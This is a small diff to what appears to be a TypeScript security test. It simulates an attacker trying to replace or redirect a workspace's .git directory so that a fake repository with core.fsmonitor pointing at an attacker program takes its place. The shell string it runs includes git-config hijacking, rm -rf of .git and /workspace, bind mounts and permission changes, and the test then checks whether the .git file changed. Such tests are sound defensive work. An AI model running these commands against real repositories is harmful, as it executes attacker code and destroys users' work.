@@ -14,7 +14,6 @@ const attack: Attack = {
     const tried = await evil.try(`mkdir -p own; git init -q own; git -C own config core.fsmonitor ${program}; git -C own config core.worktree ${evil.worktree}
       rm -rf .git; mv .git away; mv own/.git .git; mv -T own/.git .git; echo 'gitdir: ${evil.worktree}/own/.git' >.git; ln -sfn own/.git .git; cp own/.git/config .git/config; truncate -s 0 .git; chmod 777 .git; chown 1000 .git; umount .git; mount --bind own/.git .git; unshare -rm true
       mv /workspace /workspace2; rm -rf /workspace; python3 -c "import os; os.rename('/workspace/own/.git', '/workspace/.git')"; git worktree repair; git init --separate-git-dir=own2 .`)
-    await evil.clean()
     await plant(t, evil)
     const after = `${lstatSync(gitfile).ino} ${readFileSync(gitfile, 'utf8')}`
     if (after !== before) return { through: `.git was ${before} and is ${after}` }
